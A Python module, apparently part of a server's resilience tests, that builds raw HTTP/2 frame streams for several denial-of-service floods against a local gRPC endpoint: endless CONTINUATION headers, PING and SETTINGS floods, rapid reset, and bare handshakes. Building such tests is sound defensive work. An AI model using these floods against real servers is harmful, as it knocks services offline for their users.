"""Frames of HTTP/2 (RFC 9113) that cost a server much and a caller little, as bytes. None of them needs a token."""

from collections.abc import Callable, Iterator, Mapping
from itertools import count, repeat
from types import MappingProxyType

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")
#: Largest content of a frame that every receiver takes.
LARGEST_BYTES = 16_384
#: About as much is written at once.
PIECE_BYTES = 65_536
HEAD = (
    (":method", "POST"),
    (":scheme", "https"),
    (":path", "/modicum.v1.AuditService/ListAudits"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """Return a frame: RFC 9113, section 4.1."""
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def field(name: str, value: str) -> bytes:
    """Return a header that is neither compressed nor indexed: RFC 7541, section 6.2.2."""
    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


BEGIN = PREFACE + frame(SETTINGS, 0, 0)


def endless_heads() -> Iterator[bytes]:
    """Begin a head, and continue it without end."""
    yield frame(HEADERS, 0, 1, b"".join(field(*each) for each in HEAD))
    one = field("x", "y")
    yield from repeat(frame(CONTINUATION, 0, 1, one * (LARGEST_BYTES // len(one))) * (PIECE_BYTES // LARGEST_BYTES))


def pings() -> Iterator[bytes]:
    """Ask for an answer, again and again."""
    return _filled(frame(PING, 0, 0, bytes(8)))


def settings() -> Iterator[bytes]:
    """Change no setting, which the other side must confirm, again and again."""
    return _filled(frame(SETTINGS, 0, 0))


def resets() -> Iterator[bytes]:
    """Make calls without a token, and cancel each at once (rapid reset)."""
    head = b"".join(field(*each) for each in HEAD)
    for first in count(1, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams
        )


def nothing() -> Iterator[bytes]:
    """Leave as soon as the connection is there."""
    return iter(())


def _filled(one: bytes) -> Iterator[bytes]:
    return repeat(one * (PIECE_BYTES // len(one)))


FLOODS: Mapping[str, Callable[[], Iterator[bytes]]] = MappingProxyType(
    {"heads": endless_heads, "pings": pings, "settings": settings, "resets": resets, "handshakes": nothing}
)
"""What a connection sends once it is open, by the name of the attack."""
